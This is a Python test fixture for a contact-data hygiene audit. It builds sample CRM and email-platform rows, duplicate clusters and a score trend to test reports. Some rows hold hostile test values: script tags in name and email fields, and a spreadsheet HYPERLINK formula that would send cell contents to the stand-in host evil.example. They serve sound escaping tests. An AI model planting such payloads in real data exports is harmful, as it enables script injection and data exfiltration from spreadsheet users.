"""A small audit for the report tests: a CRM and an ESP with real-world defects, hostile
values (markup, formulas) in contact fields, two duplicate clusters and a trend."""

from __future__ import annotations

import hygiene
from hygiene.audit import Audit
from hygiene.model import Trend
from tests.helpers import make_source

#: Markup in a first name and an email address: the reports must show it as text.
SCRIPT_NAME = "<script>window.__pwned=1</script>"
SCRIPT_EMAIL = "<script>window.__pwned=2</script>@x.com"
#: A company that a spreadsheet would run as a formula.
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

CRM_COLUMNS = {
    "Record ID": "record_id",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Email": "email",
    "Phone Number": "phone",
    "Company Name": "company",
    "Country/Region": "country",
    "Lifecycle Stage": "lifecycle_stage",
    "Contact owner": "owner",
    "Marketing contact status": "marketable",
}
CRM_ROWS = [
    ("101", "Ann", "Lee", "ann@gmial.com", "+1 415 555 2671", "Acme", "United States", "Lead",
     "Jo Park", "Marketing contact"),
    ("102", "Bob", "Stone", "bob@acme.com", "(415) 555-0199", "Acme", "USA", "Customer",
     "Jo Park", "Marketing contact"),
    ("103", SCRIPT_NAME, "Test", SCRIPT_EMAIL, "1234567890", FORMULA_COMPANY, "United States",
     "Lead", "", "Marketing contact"),
    ("104", "Ann", "Lee", "ann.lee@acme.com", "+1 415 555 2671", "Acme Inc", "United States",
     "lead", "Jo Park", "Marketing contact"),
    ("105", "Cy", "Ng", "cy@acme", "", "Acme", "United States", "Lead", "Jo Park",
     "Marketing contact"),
    ("106", "Dee", "O'Neil", "dee@mailinator.com", "+44 20 7946 0958", "", "United Kingdom",
     "Subscriber", "Mo Diaz", "Non-marketing contact"),
    ("107", "Evan", "Wu", "info@wu-design.com", "+1 212 555 0143", "-Wu Design", "U.S.",
     "Lead", "Mo Diaz", "Marketing contact"),
    ("108", "<b>Fay</b>", "Test", "fay@test.com", "+1 646 555 0100", "@Fay Co", "United States",
     "Lead", "Mo Diaz", "Marketing contact"),
]  # fmt: skip
ESP_COLUMNS = {
    "Email Address": "email",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Member Status": "email_status",
    "OPTIN_TIME": "consent_date",
}
ESP_ROWS = [
    ("ann@gmail.com", "Ann", "Lee", "subscribed", "2024-01-02 10:00:00"),
    ("bob@acme.com", "Bob", "Stone", "subscribed", "2024-01-03 10:00:00"),
    ("gil@yahoo.com", "Gil", "Roy", "unsubscribed", "2024-02-01 10:00:00"),
    ("hal@hotmail.com", "Hal", "Poe", "cleaned", "2024-02-02 10:00:00"),
]  # fmt: skip

DUPLICATES = [
    {
        "cluster": 1,
        "confidence": 0.93,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 1, "record_id": "101"},
            {"source": "crm", "file": "contacts.csv", "row": 4, "record_id": "104"},
        ],
        "survivor": {"source": "crm", "row": 4},
        "evidence": ["name 0.97", "phone equal"],
    },
    {
        "cluster": 2,
        "confidence": 0.71,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 3, "record_id": "103"},
            {"source": "crm", "file": "contacts.csv", "row": 8, "record_id": "108"},
        ],
        "survivor": {"source": "crm", "row": 8},
        "evidence": ["last name equal"],
    },
]

TREND = Trend(
    previous_at="2026-11-10T09:00:00+00:00",
    previous_overall=61.2,
    overall_delta=4.3,
    dimension_deltas={"validity": 6.0, "completeness": -1.5},
    workflow_deltas={"newsletter": 12.5},
    new_findings=3,
    fixed_findings=9,
    new_by_code={"email.typo_domain": 2, "phone.invalid": 1},
    fixed_by_code={"email.invalid_syntax": 9},
    history=[("2026-10-01T09:00:00+00:00", 55.0), ("2026-11-10T09:00:00+00:00", 61.2)],
)


def crm_source():
    columns = list(CRM_COLUMNS)
    data = {c: [r[i] or None for r in CRM_ROWS] for i, c in enumerate(columns)}
    return make_source("crm", data, CRM_COLUMNS, platform="hubspot")


def esp_source():
    columns = list(ESP_COLUMNS)
    data = {c: [r[i] for r in ESP_ROWS] for i, c in enumerate(columns)}
    return make_source("esp", data, ESP_COLUMNS, platform="mailchimp", file="members.csv")


def sample_audit(duplicates: bool = True, trend: bool = True) -> Audit:
    """The audit of CRM_ROWS and ESP_ROWS with every workflow, clusters and a trend."""
    # The clusters are hand-made (DUPLICATES), so the matcher is not run.
    result = hygiene.audit(crm_source(), esp_source(), match=False)
    if duplicates:
        result.duplicates = [dict(d) for d in DUPLICATES]
    if trend:
        result.trend = TREND
    return result
